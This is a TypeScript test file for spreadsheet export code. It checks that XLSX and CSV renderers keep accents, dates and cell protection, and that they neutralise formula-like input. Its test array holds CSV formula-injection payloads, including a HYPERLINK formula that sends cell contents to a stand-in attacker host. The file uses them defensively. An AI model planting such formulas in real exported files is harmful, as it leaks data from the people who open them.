/** The XLSX and CSV renderers, read back with parsers: rows, accents, no formula anywhere, the same bytes twice. */
import ExcelJS from 'exceljs'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'

import { renderCsv } from './csv'
import { neutraliseCell, restoreNeutralised } from './neutralise'
import type { ExportWorkbook } from './table'
import { renderXlsx } from './xlsx'

/** What a delegation might type that a spreadsheet would run as a formula. */
const injections = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1+1']

const workbook: ExportWorkbook = {
  title: 'Implementation statuses of Côte d’Ivoire',
  date: '2017-12-04',
  sheets: [
    {
      name: 'Statuses',
      columns: [
        { key: 'code', header: 'Item code', width: 12, isReadOnly: true },
        { key: 'evidence', header: 'Evidence', width: 60 },
        { key: 'state', header: 'State', choices: ['Planned', 'Implemented'] },
        { key: 'asOf', header: 'As of', type: 'date' },
        { key: 'count', header: 'Count' },
      ],
      rows: [
        { code: 'E-16.01', evidence: 'Côte d’Ivoire, with Götz and Jürg', state: 'Planned', asOf: '2017-11-30', count: 3 },
        { code: 'E-16.02', evidence: 'line one\nline two', state: 'Implemented', asOf: null, count: -2 },
        ...injections.map((evidence, index) => ({ code: `R-19.0${index + 1}`, evidence, state: null, asOf: null, count: null })),
      ],
    },
    { name: 'Second', columns: [{ key: 'a', header: 'A' }], rows: [{ a: 'not in the CSV' }] },
  ],
}

async function readXlsx(buffer: Buffer) {
  const book = new ExcelJS.Workbook()
  // exceljs's types predate Node's generic Buffer.
  await book.xlsx.load(buffer as unknown as ArrayBuffer)
  return book
}

describe('neutraliseCell', () => {
  it.each(injections)('prefixes %j with a quote, and restoreNeutralised takes it off', (text) => {
    expect(neutraliseCell(text)).toBe(`'${text}`)
    expect(restoreNeutralised(neutraliseCell(text))).toBe(text)
  })

  it('leaves numbers, ordinary text and null alone', () => {
    expect(neutraliseCell(-2)).toBe(-2)
    expect(neutraliseCell(null)).toBeNull()
    expect(neutraliseCell('Planned – since 2016')).toBe('Planned – since 2016')
    expect(restoreNeutralised("'quoted on purpose")).toBe("'quoted on purpose")
  })
})

describe('renderXlsx', () => {
  it('writes a bold frozen header, the rows with their accents, real dates and a list of states, and no formula', async () => {
    const book = await readXlsx(await renderXlsx(workbook))
    expect(book.title).toBe(workbook.title)
    expect(book.created.toISOString()).toBe('2017-12-04T00:00:00.000Z')
    const sheet = book.getWorksheet('Statuses')!
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(sheet.getRow(1).values).toEqual([undefined, 'Item code', 'Evidence', 'State', 'As of', 'Count'])
    expect(sheet.getRow(1).font?.bold).toBe(true)
    expect(sheet.getColumn(2).width).toBe(60)
    expect(sheet.getCell('B2').alignment?.wrapText).toBe(true)
    expect(sheet.getCell('B2').value).toBe('Côte d’Ivoire, with Götz and Jürg')
    expect(sheet.getCell('B3').value).toBe('line one\nline two')
    expect(sheet.getCell('D2').value).toEqual(new Date('2017-11-30T00:00:00.000Z'))
    expect(sheet.getCell('D2').numFmt).toBe('yyyy-mm-dd')
    expect(sheet.getCell('E2').value).toBe(3)
    expect(sheet.getCell('E3').value).toBe(-2)
    expect(sheet.getCell('C4').dataValidation).toMatchObject({ type: 'list' })
    expect(sheet.getCell('C2').dataValidation).toMatchObject({ type: 'list', formulae: ['"Planned,Implemented"'] })
    // The read-only column is locked, the others are open, under a sheet protection.
    // Excel locks a cell unless its style says otherwise.
    expect(sheet.getCell('A2').protection?.locked ?? true).toBe(true)
    expect((sheet as unknown as { sheetProtection?: { sheet?: boolean } }).sheetProtection?.sheet).toBe(true)
    expect(sheet.getCell('B2').protection?.locked).toBe(false)

    const evidence: unknown[] = []
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
        expect(cell.formula).toBeUndefined()
      }),
    )
    sheet.getColumn(2).eachCell((cell, row) => row > 3 && evidence.push(cell.value))
    // XML reads a bare carriage return in text as a line feed; the quote still comes first.
    expect(evidence).toEqual(injections.map((text) => `'${text.replace('\r', '\n')}`))
    expect(book.getWorksheet('Second')!.getCell('A2').value).toBe('not in the CSV')
  })

  it('renders the same workbook to the same bytes', async () => {
    const first = await renderXlsx(workbook)
    await new Promise((resolve) => setTimeout(resolve, 1100))
    expect((await renderXlsx(workbook)).equals(first)).toBe(true)
  })
})

describe('renderCsv', () => {
  const csv = renderCsv(workbook)

  it('writes the first sheet in UTF-8 with a byte-order mark and CRLF rows', () => {
    expect(csv.startsWith('\uFEFFItem code,Evidence,State,As of,Count\r\n')).toBe(true)
    expect(csv).toContain('\r\nE-16.01,"Côte d’Ivoire, with Götz and Jürg",Planned,2017-11-30,3\r\n')
    expect(csv).not.toContain('not in the CSV')
    expect(renderCsv(workbook)).toBe(csv)
  })

  it('reads back as the rows, with every formula-like cell neutralised', () => {
    const records = parse(csv, { bom: true, columns: true, relax_column_count: false }) as Record<string, string>[]
    expect(records).toHaveLength(2 + injections.length)
    expect(records[0]).toEqual({
      'Item code': 'E-16.01',
      Evidence: 'Côte d’Ivoire, with Götz and Jürg',
      State: 'Planned',
      'As of': '2017-11-30',
      Count: '3',
    })
    expect(records[1]!.Evidence).toBe('line one\nline two')
    // A number stays a number: -2 is not text a spreadsheet could run.
    expect(records[1]!.Count).toBe('-2')
    expect(records.slice(2).map((record) => record.Evidence)).toEqual(injections.map((text) => `'${text}`))
    for (const record of records.slice(2)) for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/)
  })
})
